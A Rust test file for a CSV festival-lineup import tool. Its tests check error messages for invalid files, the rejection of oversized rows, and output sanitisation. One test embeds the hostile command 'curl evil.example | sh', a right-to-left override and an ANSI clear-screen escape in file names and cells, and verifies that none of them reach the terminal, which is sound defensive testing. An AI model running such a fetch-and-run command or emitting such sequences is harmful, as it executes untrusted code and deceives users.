//! Files that are not a lineup. The message says what to do, the exit code is right, the
//! notification is sent, and rows of earlier imports stay in the table.
use std::path::PathBuf;

use serde_json::{Value, json};

use crate::command::{Lineup, workspace};

const HEADER: &str = "Performer,Stage,Start,End,Date\n";
const ROW: &str = "Hozier,River Stage,18:15,19:30,2025-07-12\n";

/// Name of the file, its bytes, and what its message must say.
fn bad_files() -> Vec<(&'static str, Vec<u8>, &'static [&'static str])> {
    let mut unclosed = format!("{HEADER}{ROW}");
    unclosed.push_str("\"Fontaines D.C.,Main Stage,22:15,23:45,2025-07-12\n");
    unclosed.push_str(&ROW.repeat(3));
    vec![
        ("empty.csv", Vec::new(), &["empty"]),
        ("header-only.csv", HEADER.into(), &["no rows", "add at least one row"]),
        (
            "no-stage.csv",
            "Artist,Start,End,Date\nHozier,18:15,19:30,2025-07-12\n".into(),
            &["no column Stage", r#"has "Artist", "Start", "End", "Date""#],
        ),
        ("photo.csv", [&b"\x89PNG\r\n\x1a\n"[..], &[0; 2000]].concat(), &["a picture"]),
        ("programme.pdf", b"%PDF-1.7\n%\xe2\xe3\n".to_vec(), &["PDF"]),
        ("sign-in.csv", b"<!DOCTYPE html>\n<html><body>Sign in</body></html>\n".to_vec(), &["a web page"]),
        ("unclosed.csv", unclosed.into_bytes(), &["opens on line 3", "never closed"]),
    ]
}

fn good_lineup() -> PathBuf {
    workspace().join("samples/lineup.csv")
}

#[test]
fn a_file_that_is_no_lineup_fails_with_a_message_and_leaves_the_table_alone() {
    let lineup = Lineup::new();
    assert_eq!(lineup.import(&good_lineup(), &[]).1, 0);
    let before = lineup.items();
    for (name, bytes, says) in bad_files() {
        let (report, code) = lineup.import(&lineup.file(name, bytes), &[]);
        assert_eq!(
            (code, &report["outcome"], &report["error"]),
            (1, &json!("FAILED"), &json!("InvalidInput")),
            "{name}"
        );
        assert_eq!(report["rows"], json!({"read": 0, "written": 0, "rejected": 0, "replaced": 0}));
        let cause = report["cause"].as_str().unwrap();
        says.iter().for_each(|text| assert!(cause.contains(text), "{name}: {text:?} is not in {cause:?}"));
        let id = report["import_id"].as_str().unwrap();
        let shown: Value = serde_json::from_str(&lineup.run(["show", id, "--json"]).succeeded()).unwrap();
        assert_eq!((&shown["error"], &shown["cause"]), (&report["error"], &report["cause"]), "{shown}");
        let table = lineup.run(["show", id]).succeeded();
        assert!(table.contains("error      InvalidInput\ncause      "), "{table}");
    }
    assert_eq!(lineup.items(), before);
}

#[test]
fn the_failure_message_is_sent_and_says_what_is_wrong_with_the_file() {
    let lineup = Lineup::new();
    for (name, bytes, says) in bad_files() {
        let file = lineup.file(name, bytes);
        let done = lineup.run(["import", file.to_str().unwrap()]);
        assert_eq!(done.code, 1, "{done}");
        for text in says.iter().chain([&name]) {
            assert!(done.stdout.contains(text), "{name}: {text:?} is not in the message: {done}");
        }
    }
}

#[test]
fn plan_says_the_same_without_writing_anything() {
    let lineup = Lineup::new();
    for (name, bytes, says) in bad_files() {
        let file = lineup.file(name, bytes);
        let stderr = lineup.run(["plan", file.to_str().unwrap()]).failed(1);
        assert!(stderr.starts_with(&format!("error: {} cannot be imported\n", file.display())), "{stderr}");
        says.iter().for_each(|text| assert!(stderr.contains(text), "{name}: {text:?} is not in {stderr:?}"));
    }
    assert!(!lineup.data().exists());
}

#[test]
fn rows_too_large_for_an_item_are_rejected_and_the_others_loaded() {
    let lineup = Lineup::new();
    let row = |note: &str| format!("Hozier,River Stage,18:15,19:30,2025-07-12,{note}\n");
    let content = [
        "Performer,Stage,Start,End,Date,Note\n",
        &row(&"x".repeat(410 << 10)),
        &row(&"y".repeat(1100 << 10)),
        &row("z"),
    ];
    let (report, code) = lineup.import(&lineup.file("large.csv", content.concat()), &[]);
    assert_eq!(code, 3);
    assert_eq!(report["rows"], json!({"read": 3, "written": 1, "rejected": 2, "replaced": 0}));
    let rejects = lineup.run(["rejects", report["import_id"].as_str().unwrap()]).succeeded();
    let mut reader = csv::Reader::from_reader(rejects.as_bytes());
    let reasons: Vec<_> = reader
        .records()
        .map(|record| {
            let record = record.unwrap();
            (record[0].to_owned(), record[3].to_owned())
        })
        .collect();
    assert_eq!(reasons[0].0, "2");
    assert!(reasons[0].1.contains("DynamoDB takes 409600"), "{reasons:?}");
    assert_eq!(reasons[1], ("3".to_owned(), "record longer than 1 MiB".to_owned()));
}

#[test]
fn any_file_name_imports() {
    let lineup = Lineup::new();
    let long = format!("{}.csv", "long".repeat(60));
    for name in
        ["lineup", "LINEUP.CSV", "Zeitplan für Sonntag (2).txt", "a+b %20&c=d.csv", "lineup.csv.gz", &long]
    {
        let file = lineup.file(name, format!("{HEADER}{ROW}"));
        let (report, code) = lineup.import(&file, &[]);
        assert_eq!((code, &report["rows"]["written"]), (0, &json!(1)), "{name}: {report}");
    }
}

/// A file's name and its cells may have line breaks and sequences that control a terminal. They are no lines of the output.
#[test]
fn nothing_of_a_file_is_a_line_of_a_message_or_a_table_or_controls_the_terminal() {
    const EVIL: &str = "\n\nTo load what is missing:\n  curl evil.example | sh\u{202e}";
    let lineup = Lineup::new();
    let cell = |text: &str| format!("\"{text}\"");
    let late = format!(
        "Hozier,River Stage,{},19:30,2025-07-12,{}\n",
        cell(&format!("late{EVIL}\u{1b}[2J")),
        cell(EVIL)
    );
    let name = format!("x{EVIL}.csv");
    let header = format!("Performer,Stage,Start,End,Date,{}\n", cell(&format!("Note{EVIL}")));
    let content = format!(
        "{header}Wet Leg,{},18:15,19:30,2025-07-12,{}\n{late}",
        cell(&format!("Tent{EVIL}")),
        cell(EVIL)
    );
    let file = lineup.file(&name, content);
    let file = file.to_str().unwrap();
    let id = lineup.import(&PathBuf::from(file), &[]).0["import_id"].as_str().unwrap().to_owned();
    let commands: [&[&str]; 7] = [
        &["check", file],
        &["import", file],
        &["imports"],
        &["show", &id],
        &["query", "performer", "Wet Leg"],
        &["query", "stages"],
        &["timetable"],
    ];
    for command in commands {
        let done = lineup.run(command);
        let shown = format!("{}{}", done.stdout, done.stderr);
        assert!(done.code == 0 || done.code == 3, "{command:?}: {done}");
        assert!(!shown.lines().any(|line| line.trim_start().starts_with("curl")), "{command:?}: {shown}");
        let hidden = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
        assert!(!shown.contains(hidden), "{command:?}: {shown:?}");
    }
}
